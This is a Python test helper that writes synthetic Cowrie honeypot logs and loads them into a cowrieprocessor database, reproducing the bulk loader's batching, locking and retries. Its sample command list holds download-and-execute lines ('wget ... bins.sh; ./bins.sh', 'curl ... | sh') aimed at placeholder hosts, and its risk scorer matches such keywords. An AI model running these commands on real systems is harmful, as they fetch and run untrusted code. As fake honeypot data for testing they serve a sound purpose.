"""A loader-shaped writer (a test helper, our own code): Cowrie JSON lines into a cowrieprocessor
database as cowrieprocessor's bulk loader leaves it, in the loader's transactions and with its
lock policy (datagen24/cowrieprocessor 57326ea, ``BulkLoader`` in cowrieprocessor/loader/bulk.py;
what it writes is measured in ../shared/compat/README.md, "What the loader writes").

Per batch of 500 events, one transaction (the loader's ``_execute_flush``):

1. one multi-row ``INSERT`` of the batch's ``raw_events`` (``ON CONFLICT DO NOTHING`` on the
   source offset key): ``session_id``, ``event_type`` and ``event_timestamp`` from the payload,
   the payload as JSON text, ``ingest_at`` left to the column's default;
2. the snapshot lookup: each session's canonical IP (its first ``src_ip`` in the batch) in
   ``ip_inventory``. With a row: ``source_ip`` is set and the snapshots are copied
   (``snapshot_asn = current_asn``, ``snapshot_country = coalesce(maxmind.country,
   cymru.country, dshield.ip.ascountry)`` as stored, ``snapshot_ip_type`` from
   ``spur.client.types``, ``enrichment_at = enrichment_updated_at``); without one, all NULL;
3. one multi-row upsert of ``session_summaries``: counters added, ``source_ip`` and the
   snapshots ``coalesce(existing, new)`` (first ingest wins), ``updated_at = now``.

SQLite connections run ``journal_mode=WAL``, ``busy_timeout=5000``, ``synchronous=NORMAL``. A
failed attempt is rolled back and retried 3 times, after 1.0, 1.5 and 2.25 s; then the loader
waits its 10 s cooldown and fails (``cowrie-loader`` exits 1). `LoadReport` records every
attempt (each statement's time: a lock is waited for inside the statement that needs it), every
failure and every wait.

Not reproduced: on SQLite, upstream's snapshot lookup raises ``JSONDecodeError`` whenever an IP
already has a row (README, Troubleshooting); this writer does what the lookup means to do, as
the loader does on PostgreSQL. Risk scores are simplified, commands are not defanged, and no
``files`` or dead-letter rows are written.

As a command (``python -m tests.loader --db URL --folder DIR --report FILE --stop FILE ...``)
it is the cron loader beside a refresh: it writes a new file of Cowrie events, loads it, and
again, until the stop file appears; its report is rewritten after every file.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import random
import sqlite3
import sys
import time
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final

BATCH_SIZE: Final = 500
BUSY_TIMEOUT_MS: Final = 5000
RETRIES: Final = 3  # after the first failed attempt (max_flush_retries)
FIRST_BACKOFF: Final = 1.0
BACKOFF_FACTOR: Final = 1.5  # flush_retry_backoff
COOLDOWN: Final = 10.0  # failure_cooldown_seconds, before the load fails
SENSOR: Final = "honeypot-a"

CONNECT: Final = "cowrie.session.connect"
CREDENTIALS: Final = (
    ("root", "root"),
    ("root", "123456"),
    ("admin", "admin"),
    ("ubuntu", "ubuntu"),
    ("pi", "raspberry"),
    ("user", "password"),
)
COMMANDS: Final = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://203.0.113.7/bins.sh; chmod +x bins.sh; ./bins.sh",
    "echo 'test' > /tmp/probe.txt",
    "curl -fsSL http://198.51.100.9/x | sh",
    "free -m",
)
IP_TYPE_PRIORITY: Final = {
    "VPN": 1,
    "TOR": 2,
    "PROXY": 3,
    "DATACENTER": 4,
    "RESIDENTIAL": 5,
    "MOBILE": 6,
}

RAW_EVENT_COLUMNS: Final = (
    "ingest_id",
    "source",
    "source_offset",
    "source_inode",
    "source_generation",
    "payload",
    "payload_hash",
    "risk_score",
    "quarantined",
    "session_id",
    "event_type",
    "event_timestamp",
)
SESSION_COLUMNS: Final = (
    "session_id",
    "event_count",
    "command_count",
    "file_downloads",
    "login_attempts",
    "first_event_at",
    "last_event_at",
    "risk_score",
    "source_files",
    "matcher",
    "vt_flagged",
    "dshield_flagged",
    "enrichment",
    "ssh_key_injections",
    "unique_ssh_keys",
    "source_ip",
    "snapshot_asn",
    "snapshot_country",
    "snapshot_ip_type",
    "enrichment_at",
)
# The columns the snapshot lookup fills (the rest of a session row is the loader's own).
SNAPSHOT_COLUMNS: Final = ("source_ip", "snapshot_asn", "snapshot_country", "enrichment_at")
# PostgreSQL types of the bound values (multi-row VALUES lists need them).
PG_TYPES: Final = {
    "source_offset": "bigint",
    "source_generation": "integer",
    "payload": "json",
    "risk_score": "integer",
    "quarantined": "boolean",
    "event_timestamp": "timestamptz",
    "event_count": "integer",
    "command_count": "integer",
    "file_downloads": "integer",
    "login_attempts": "integer",
    "first_event_at": "timestamptz",
    "last_event_at": "timestamptz",
    "source_files": "json",
    "vt_flagged": "boolean",
    "dshield_flagged": "boolean",
    "enrichment": "json",
    "ssh_key_injections": "integer",
    "unique_ssh_keys": "integer",
    "snapshot_asn": "integer",
    "enrichment_at": "timestamptz",
}


# -- Cowrie events ----------------------------------------------------------------------------


@dataclass(frozen=True)
class SessionPlan:
    """One Cowrie session to generate: its id, the address on its events (None: no event
    carries ``src_ip``) and when it starts."""

    session_id: str
    src_ip: str | None
    start: datetime


def plan_sessions(
    ips: Iterable[str | None],
    rng: random.Random,
    start: datetime,
    window: timedelta = timedelta(hours=6),
    per_ip: tuple[int, int] = (1, 3),
) -> list[SessionPlan]:
    """``per_ip`` (a range) sessions per address, each starting somewhere in ``window``."""
    return [
        SessionPlan(f"{rng.getrandbits(128):032x}", ip, start + window * rng.random())
        for ip in ips
        for _ in range(rng.randint(*per_ip))
    ]


def cowrie_stamp(moment: datetime) -> str:
    """Cowrie's timestamp: ISO 8601, UTC, microseconds, ``Z``."""
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def session_events(
    plan: SessionPlan, rng: random.Random, *, opening: bool = True, every_event_ip: bool = True
) -> list[dict[str, Any]]:
    """The events of one session: connect and failed logins (``opening``), then maybe a
    successful login and commands, then closed. ``src_ip`` on every event, or only on connect
    (as in upstream's synthetic logs) when not ``every_event_ip``."""
    events: list[dict[str, Any]] = []
    moment = plan.start

    def add(eventid: str, **fields: Any) -> None:
        nonlocal moment
        event = {"eventid": eventid, **fields, "sensor": SENSOR, "session": plan.session_id}
        if plan.src_ip is not None and (every_event_ip or eventid == CONNECT):
            event["src_ip"] = plan.src_ip
        event["timestamp"] = cowrie_stamp(moment)
        events.append(event)
        moment += timedelta(seconds=rng.uniform(0.2, 6.0))

    if opening:
        add(CONNECT, src_port=rng.randint(1024, 65535), dst_port=22, protocol="ssh")
        for _ in range(rng.randint(1, 3)):
            username, password = rng.choice(CREDENTIALS)
            add("cowrie.login.failed", username=username, password=password)
    commands = rng.randint(0, 3)
    if commands and opening:
        add("cowrie.login.success", username="root", password="admin")
    for _ in range(commands):
        add("cowrie.command.input", input=rng.choice(COMMANDS))
    add("cowrie.session.closed", duration=round((moment - plan.start).total_seconds(), 1))
    return events


def cowrie_events(
    plans: Iterable[SessionPlan],
    rng: random.Random,
    *,
    opening: bool = True,
    every_event_ip: bool = True,
) -> list[dict[str, Any]]:
    """Every planned session's events, in time order (sessions interleave, as in a log)."""
    events = [
        event
        for plan in plans
        for event in session_events(plan, rng, opening=opening, every_event_ip=every_event_ip)
    ]
    return sorted(events, key=lambda event: event["timestamp"])


def write_json_lines(path: Path, events: Iterable[Mapping[str, Any]]) -> Path:
    """Cowrie's log format: one JSON object per line."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(event) + "\n" for event in events), encoding="utf-8")
    return path


# -- what the loader makes of an event ----------------------------------------------------------


def sqlite_text(moment: datetime) -> str:
    """cowrieprocessor's SQLite timestamp text (SQLAlchemy's form, UTC)."""
    return moment.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")


def parse_stamp(text: Any) -> datetime | None:
    """The event's time (aware), or None."""
    if not isinstance(text, str) or not text:
        return None
    try:
        return datetime.fromisoformat(text.replace("Z", "+00:00"))
    except ValueError:
        return None


def risk_score(event: Mapping[str, Any]) -> int:
    """A simplified version of the loader's score: commands by keyword, downloads 20."""
    score = 0
    command = event.get("input") or event.get("command")
    if isinstance(command, str):
        lowered = command.lower()
        score += 10 + 40 * any(word in lowered for word in ("wget", "curl", "sh", "python"))
        score += 25 * any(mark in lowered for mark in ("/tmp/", "http://", ";", "|"))
    if event.get("eventid") == "cowrie.session.file_download":
        score += 20
    return min(score, 100)


def payload_hash(payload: Mapping[str, Any]) -> str:
    """BLAKE2b-256 of the payload's canonical JSON (sorted keys, no spaces)."""
    text = json.dumps(payload, sort_keys=True, separators=(",", ":"))
    return hashlib.blake2b(text.encode("utf-8"), digest_size=32).hexdigest()


@dataclass
class SessionAggregate:
    """One session's counts within a batch (the loader's ``SessionAggregate``)."""

    event_count: int = 0
    command_count: int = 0
    file_downloads: int = 0
    login_attempts: int = 0
    first_event_at: datetime | None = None
    last_event_at: datetime | None = None
    highest_risk: int = 0
    sensor: str | None = None
    source_files: set[str] = field(default_factory=set)
    canonical_ip: str | None = None  # the first src_ip met in the batch

    def add(
        self, event: Mapping[str, Any], moment: datetime | None, risk: int, source: str
    ) -> None:
        """Count one event of the session."""
        kind = str(event.get("eventid") or "")
        self.event_count += 1
        self.command_count += "cowrie.command" in kind or "command" in kind
        self.file_downloads += "file_download" in kind or "cowrie.session.file" in kind
        self.login_attempts += "login" in kind
        sensor, address = event.get("sensor"), event.get("src_ip") or event.get("peer_ip")
        if self.sensor is None and isinstance(sensor, str) and sensor:
            self.sensor = sensor
        if self.canonical_ip is None and isinstance(address, str) and address:
            self.canonical_ip = address
        if moment is not None:
            self.first_event_at = min(moment, self.first_event_at or moment)
            self.last_event_at = max(moment, self.last_event_at or moment)
        self.highest_risk = max(self.highest_risk, risk)
        self.source_files.add(source)


def _text_at(blocks: Any, *path: str) -> str | None:
    """``enrichment->path...->>last``: the value at ``path`` as text, None when absent/null."""
    value = blocks
    for key in path:
        if not isinstance(value, dict):
            return None
        value = value.get(key)
    if value is None:
        return None
    return value if isinstance(value, str) else json.dumps(value)


def snapshot_of(row: Sequence[Any]) -> dict[str, Any]:
    """What the loader copies from an ``ip_inventory`` row (ip, current_asn, enrichment,
    enrichment_updated_at) into a session at its first ingest."""
    _, asn, enrichment, updated = row
    blocks = enrichment
    if isinstance(enrichment, str):
        try:
            blocks = json.loads(enrichment)
        except ValueError:
            blocks = {}
    country = (
        _text_at(blocks, "maxmind", "country")
        or _text_at(blocks, "cymru", "country")
        or _text_at(blocks, "dshield", "ip", "ascountry")
        or "XX"
    )
    client = blocks.get("spur") if isinstance(blocks, dict) else None
    types = client.get("client", {}).get("types") if isinstance(client, dict) else None
    if isinstance(types, list):
        ranked = sorted((t for t in types if isinstance(t, str)), key=_type_rank)
        types = ranked[0] if ranked else None
    return {
        "asn": asn,
        "country": None if country == "XX" else country,
        "ip_type": types if isinstance(types, str) and types else None,
        "enrichment_at": updated,
    }


def _type_rank(kind: str) -> int:
    return IP_TYPE_PRIORITY.get(kind, 99)


# -- the database -------------------------------------------------------------------------------


class Dialect:
    """SQL of one database kind and how values are bound."""

    name = "sqlite"
    mark = "?"
    least, greatest, now = "coalesce", "max", "CURRENT_TIMESTAMP"  # the loader's SQLite forms

    def connect(self, target: str) -> Any:
        """A connection configured as the loader's engine configures one."""
        con = sqlite3.connect(target, isolation_level=None, timeout=BUSY_TIMEOUT_MS / 1000)
        for pragma in (
            f"busy_timeout={BUSY_TIMEOUT_MS}",
            "journal_mode=WAL",
            "synchronous=NORMAL",
            "cache_size=-64000",
        ):
            con.execute(f"PRAGMA {pragma}")
        return con

    def placeholder(self, column: str) -> str:
        """The bound value of ``column`` in a VALUES row."""
        return self.mark

    def value(self, column: str, value: Any) -> Any:
        """``value`` as bound for ``column``."""
        if isinstance(value, datetime):
            return sqlite_text(value)
        if isinstance(value, bool):
            return int(value)
        return value

    def begin(self, con: Any) -> None:
        """Start the batch's transaction (pysqlite's deferred BEGIN before the first write)."""
        con.execute("BEGIN")

    def in_list(self, count: int) -> tuple[str, bool]:
        """``ip_address IN (...)`` for ``count`` values, and whether they bind as one list."""
        return f"IN ({', '.join([self.mark] * count)})", False

    def errors(self) -> tuple[type[BaseException], ...]:
        """The errors a flush attempt fails with (the loader catches SQLAlchemyError)."""
        return (sqlite3.Error,)


class PostgresDialect(Dialect):
    """PostgreSQL through psycopg (the driver the loader uses)."""

    name = "postgres"
    mark = "%s"
    least, greatest, now = "least", "greatest", "now()"

    def connect(self, target: str) -> Any:
        import psycopg

        return psycopg.connect(target)

    def placeholder(self, column: str) -> str:
        kind = PG_TYPES.get(column)
        return f"%s::{kind}" if kind else "%s"

    def value(self, column: str, value: Any) -> Any:
        return value

    def begin(self, con: Any) -> None:
        """psycopg opens the transaction at the first statement."""

    def in_list(self, count: int) -> tuple[str, bool]:
        return "= ANY(%s)", True

    def errors(self) -> tuple[type[BaseException], ...]:
        import psycopg

        return (psycopg.Error,)


def dialect_of(url: str) -> tuple[Dialect, str]:
    """The dialect of ``url`` (``sqlite:///path`` or ``postgresql://...``) and its target."""
    if url.startswith("sqlite:///"):
        return Dialect(), url.removeprefix("sqlite:///")
    if url.startswith(("postgresql://", "postgres://")):
        return PostgresDialect(), url
    raise ValueError(f"not a database URL this writer knows: {url}")


# -- the report ---------------------------------------------------------------------------------


@dataclass
class Attempt:
    """One try at committing one batch: each statement's seconds, the error if it failed."""

    source: str
    batch: int
    attempt: int
    at: float  # time.time() when it began
    statements: dict[str, float] = field(default_factory=dict)
    seconds: float = 0.0
    error: str | None = None


@dataclass
class LoadReport:
    """Everything the writer did: attempts, waits between them, batches committed."""

    attempts: list[Attempt] = field(default_factory=list)
    waits: list[dict[str, Any]] = field(default_factory=list)  # backoff and cooldown sleeps
    committed: list[dict[str, Any]] = field(default_factory=list)  # one entry per batch
    failed: str | None = None  # the error that ended the load (the loader's exit 1)

    @property
    def failures(self) -> list[Attempt]:
        """Every attempt that failed (and was rolled back)."""
        return [attempt for attempt in self.attempts if attempt.error is not None]

    @property
    def longest_wait(self) -> float:
        """The longest single statement of any attempt (seconds): a lock is waited for inside
        the statement that needs it, so this bounds the longest wait for a lock."""
        return max((max(a.statements.values(), default=0.0) for a in self.attempts), default=0.0)

    @property
    def events_committed(self) -> int:
        """Raw events inserted by committed batches."""
        return sum(batch["inserted"] for batch in self.committed)

    def to_json(self) -> str:
        """The report as one JSON object."""
        data = asdict(self)
        data["longest_wait"] = self.longest_wait
        return json.dumps(data, indent=1)

    @classmethod
    def from_json(cls, text: str) -> LoadReport:
        """A report written by `to_json`."""
        data = json.loads(text)
        return cls(
            attempts=[Attempt(**attempt) for attempt in data["attempts"]],
            waits=data["waits"],
            committed=data["committed"],
            failed=data["failed"],
        )


class LoadFailedError(RuntimeError):
    """A batch failed its attempts and the cooldown: the loader gives up (exit 1)."""


# -- the writer ---------------------------------------------------------------------------------


@dataclass
class _Batch:
    source: str
    index: int
    records: list[dict[str, Any]]
    sessions: dict[str, SessionAggregate]


class LoaderShapedWriter:
    """Loads Cowrie JSON-lines files into the database at ``url`` as the bulk loader does."""

    def __init__(
        self,
        url: str,
        report: LoadReport | None = None,
        sleep: Callable[[float], None] = time.sleep,
    ) -> None:
        self.dialect, target = dialect_of(url)
        self.con = self.dialect.connect(target)
        self.report = report or LoadReport()
        self.sleep = sleep
        self.ingest_id = f"{random.getrandbits(128):032x}"

    def close(self) -> None:
        """Close the connection."""
        self.con.close()

    def __enter__(self) -> LoaderShapedWriter:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def load_file(self, path: Path) -> int:
        """Load one file, batch by batch; the number of raw events inserted. Raises
        `LoadFailedError` when a batch fails every attempt (committed batches stay)."""
        inserted = 0
        for batch in self._batches(path):
            inserted += self._flush(batch)
        return inserted

    def _batches(self, path: Path) -> Iterator[_Batch]:
        source, inode = str(path), str(os.stat(path).st_ino)
        records: list[dict[str, Any]] = []
        sessions: dict[str, SessionAggregate] = {}
        index = 0
        with path.open(encoding="utf-8") as lines:
            for offset, line in enumerate(lines):
                if not line.strip():
                    continue
                event = json.loads(line)
                records.append(self._record(event, source, inode, offset))
                session = event.get("session") or event.get("session_id")
                if session:
                    record = records[-1]
                    sessions.setdefault(session, SessionAggregate()).add(
                        event, record["event_timestamp"], record["risk_score"], source
                    )
                if len(records) >= BATCH_SIZE:
                    index += 1
                    yield _Batch(source, index, records, sessions)
                    records, sessions = [], {}
        if records:
            yield _Batch(source, index + 1, records, sessions)

    def _record(
        self, event: dict[str, Any], source: str, inode: str, offset: int
    ) -> dict[str, Any]:
        moment = parse_stamp(event.get("timestamp") or event.get("time"))
        risk = risk_score(event)
        return {
            "ingest_id": self.ingest_id,
            "source": source,
            "source_offset": offset,
            "source_inode": inode,
            "source_generation": 0,
            "payload": json.dumps(event),
            "payload_hash": payload_hash(event),
            "risk_score": risk,
            "quarantined": risk >= 90 or moment is None,
            "session_id": event.get("session") or event.get("session_id"),
            "event_type": event.get("eventid"),
            "event_timestamp": moment,
        }

    def _flush(self, batch: _Batch) -> int:
        """The loader's ``_flush``: attempts and backoffs, then the cooldown and failure."""
        backoff = FIRST_BACKOFF
        for number in range(1, RETRIES + 2):
            inserted = self._attempt(batch, number)
            if inserted is not None:
                return inserted
            if number <= RETRIES:
                self._wait("backoff", backoff)
                backoff *= BACKOFF_FACTOR
        self._wait("cooldown", COOLDOWN)
        self.report.failed = self.report.attempts[-1].error
        raise LoadFailedError(self.report.failed)

    def _attempt(self, batch: _Batch, number: int) -> int | None:
        """One attempt at the batch: the raw events inserted, or None when it failed (then
        rolled back, its error recorded)."""
        attempt = Attempt(batch.source, batch.index, number, time.time())
        self.report.attempts.append(attempt)
        started = time.monotonic()
        try:
            inserted = self._execute(batch, attempt)
        except self.dialect.errors() as exc:
            self.con.rollback()
            attempt.error = f"{type(exc).__name__}: {exc}".strip()
            return None
        finally:
            attempt.seconds = time.monotonic() - started
        self.report.committed.append(
            {
                "source": batch.source,
                "batch": batch.index,
                "offsets": [record["source_offset"] for record in batch.records],
                "inserted": inserted,
                "sessions": sorted(batch.sessions),
                "at": time.time(),
            }
        )
        return inserted

    def _wait(self, kind: str, seconds: float) -> None:
        self.report.waits.append({"kind": kind, "seconds": seconds, "at": time.time()})
        self.sleep(seconds)

    def _execute(self, batch: _Batch, attempt: Attempt) -> int:
        """One attempt, one transaction: raw events, snapshot lookup, session upsert."""
        cursor = self.con.cursor()
        self.dialect.begin(self.con)
        with _timed(attempt, "insert_raw_events"):
            inserted = self._insert_raw_events(cursor, batch.records)
        ips = sorted({a.canonical_ip for a in batch.sessions.values() if a.canonical_ip})
        with _timed(attempt, "lookup_snapshots"):
            snapshots = self._lookup_snapshots(cursor, ips)
        with _timed(attempt, "upsert_sessions"):
            self._upsert_sessions(cursor, batch.sessions, snapshots)
        with _timed(attempt, "commit"):
            self.con.commit()
        return inserted

    def _values(
        self, columns: Sequence[str], rows: Sequence[Mapping[str, Any]]
    ) -> tuple[str, list[Any]]:
        row = "(" + ", ".join(self.dialect.placeholder(c) for c in columns) + ")"
        params = [self.dialect.value(c, r[c]) for r in rows for c in columns]
        return ", ".join([row] * len(rows)), params

    def _insert_raw_events(self, cursor: Any, records: list[dict[str, Any]]) -> int:
        values, params = self._values(RAW_EVENT_COLUMNS, records)
        cursor.execute(
            f"INSERT INTO raw_events ({', '.join(RAW_EVENT_COLUMNS)}) VALUES {values} "
            "ON CONFLICT (source, source_inode, source_generation, source_offset) DO NOTHING",
            params,
        )
        return int(cursor.rowcount or 0)

    def _lookup_snapshots(self, cursor: Any, ips: list[str]) -> dict[str, dict[str, Any]]:
        if not ips:
            return {}
        condition, as_list = self.dialect.in_list(len(ips))
        cursor.execute(
            "SELECT ip_address, current_asn, enrichment, enrichment_updated_at "
            f"FROM ip_inventory WHERE ip_address {condition}",
            [ips] if as_list else ips,
        )
        return {row[0]: snapshot_of(row) for row in cursor.fetchall()}

    def _upsert_sessions(
        self,
        cursor: Any,
        sessions: Mapping[str, SessionAggregate],
        snapshots: Mapping[str, Mapping[str, Any]],
    ) -> None:
        if not sessions:
            return
        rows = [self._session_row(s, a, snapshots) for s, a in sessions.items()]
        values, params = self._values(SESSION_COLUMNS, rows)
        d = self.dialect
        added = ("event_count", "command_count", "file_downloads", "login_attempts")
        first_wins = ("source_ip", "snapshot_asn", "snapshot_country", "snapshot_ip_type")
        updates = [f"{c} = session_summaries.{c} + excluded.{c}" for c in added]
        updates += [
            f"first_event_at = {d.least}(session_summaries.first_event_at, excluded.first_event_at)",
            f"last_event_at = {d.greatest}(session_summaries.last_event_at, excluded.last_event_at)",
            f"risk_score = {d.greatest}(session_summaries.risk_score, excluded.risk_score)",
            "source_files = excluded.source_files",
            "matcher = coalesce(session_summaries.matcher, excluded.matcher)",
            "vt_flagged = excluded.vt_flagged",
            "dshield_flagged = excluded.dshield_flagged",
            "enrichment = coalesce(excluded.enrichment, session_summaries.enrichment)",
            "ssh_key_injections = session_summaries.ssh_key_injections + excluded.ssh_key_injections",
            "unique_ssh_keys = excluded.unique_ssh_keys",
        ]
        updates += [f"{c} = coalesce(session_summaries.{c}, excluded.{c})" for c in first_wins]
        updates += [
            "enrichment_at = coalesce(session_summaries.enrichment_at, excluded.enrichment_at)",
            f"updated_at = {d.now}",
        ]
        cursor.execute(
            f"INSERT INTO session_summaries ({', '.join(SESSION_COLUMNS)}) VALUES {values} "
            f"ON CONFLICT (session_id) DO UPDATE SET {', '.join(updates)}",
            params,
        )

    @staticmethod
    def _session_row(
        session_id: str, agg: SessionAggregate, snapshots: Mapping[str, Mapping[str, Any]]
    ) -> dict[str, Any]:
        snapshot = snapshots.get(agg.canonical_ip or "", {})
        return {
            "session_id": session_id,
            "event_count": agg.event_count,
            "command_count": agg.command_count,
            "file_downloads": agg.file_downloads,
            "login_attempts": agg.login_attempts,
            "first_event_at": agg.first_event_at,
            "last_event_at": agg.last_event_at,
            "risk_score": agg.highest_risk,
            "source_files": json.dumps(sorted(agg.source_files)) if agg.source_files else None,
            "matcher": agg.sensor,
            "vt_flagged": False,
            "dshield_flagged": False,
            "enrichment": "null",  # --skip-enrich: the JSON text null
            "ssh_key_injections": 0,
            "unique_ssh_keys": 0,
            "source_ip": agg.canonical_ip if agg.canonical_ip in snapshots else None,
            "snapshot_asn": snapshot.get("asn"),
            "snapshot_country": snapshot.get("country"),
            "snapshot_ip_type": snapshot.get("ip_type"),
            "enrichment_at": snapshot.get("enrichment_at"),
        }


@contextmanager
def _timed(attempt: Attempt, name: str) -> Iterator[None]:
    """Record how long the block (one statement of ``attempt``) took, also when it raised."""
    started = time.monotonic()
    try:
        yield
    finally:
        attempt.statements[name] = time.monotonic() - started


def load_events(
    url: str, path: Path, events: Iterable[Mapping[str, Any]], report: LoadReport | None = None
) -> LoadReport:
    """Write ``events`` to the log file ``path`` and load it into ``url``; the report."""
    write_json_lines(path, events)
    with LoaderShapedWriter(url, report) as writer:
        writer.load_file(path)
        return writer.report


# -- the cron loader beside a refresh -------------------------------------------------------------


def _arguments(argv: Sequence[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="python -m tests.loader", description=__doc__)
    parser.add_argument("--db", required=True, help="sqlite:///path or postgresql://...")
    parser.add_argument("--folder", type=Path, required=True, help="where the log files go")
    parser.add_argument("--report", type=Path, required=True, help="the report (JSON)")
    parser.add_argument("--stop", type=Path, required=True, help="stop once this file exists")
    parser.add_argument("--ips", type=Path, help="JSON list: addresses of new sessions")
    parser.add_argument("--continue", dest="sessions", type=Path,
                        help="JSON object session id -> address: sessions to add events to")  # fmt: skip
    parser.add_argument("--sessions-per-file", type=int, default=120)
    parser.add_argument("--continued-per-file", type=int, default=120)
    parser.add_argument("--pause", type=float, default=0.05, help="seconds between files")
    parser.add_argument("--max-seconds", type=float, default=600.0)
    parser.add_argument("--seed", type=int, default=1)
    return parser.parse_args(argv)


def _save(report: LoadReport, path: Path) -> None:
    partial = path.with_name(f".{path.name}.tmp")
    partial.write_text(report.to_json(), encoding="utf-8")
    partial.replace(path)


def main(argv: Sequence[str] | None = None) -> int:
    """Load new files of Cowrie events until the stop file appears; 1 if a load failed."""
    args = _arguments(argv)
    rng = random.Random(args.seed)
    pool: list[str] = json.loads(args.ips.read_text()) if args.ips else []
    open_sessions: dict[str, str] = json.loads(args.sessions.read_text()) if args.sessions else {}
    continued = list(open_sessions.items())
    rng.shuffle(continued)
    report = LoadReport()
    deadline = time.monotonic() + args.max_seconds
    number = 0
    with LoaderShapedWriter(args.db, report) as writer:
        while not args.stop.exists() and time.monotonic() < deadline:
            number += 1
            now = datetime.now(UTC)
            new = [rng.choice(pool) for _ in range(args.sessions_per_file)] if pool else []
            fresh = plan_sessions(new, rng, now, timedelta(minutes=5), per_ip=(1, 1))
            taken, continued = (
                continued[: args.continued_per_file],
                continued[args.continued_per_file :],
            )
            again = [
                SessionPlan(s, ip, now + timedelta(seconds=i)) for i, (s, ip) in enumerate(taken)
            ]
            events = cowrie_events(fresh, rng) + cowrie_events(again, rng, opening=False)
            path = write_json_lines(args.folder / f"cowrie.json.{number:04d}", events)
            try:
                writer.load_file(path)
            except LoadFailedError as exc:
                print(f"load failed: {exc}", file=sys.stderr)
                return 1
            finally:
                _save(report, args.report)
            time.sleep(args.pause)
    return 0


if __name__ == "__main__":
    sys.exit(main())
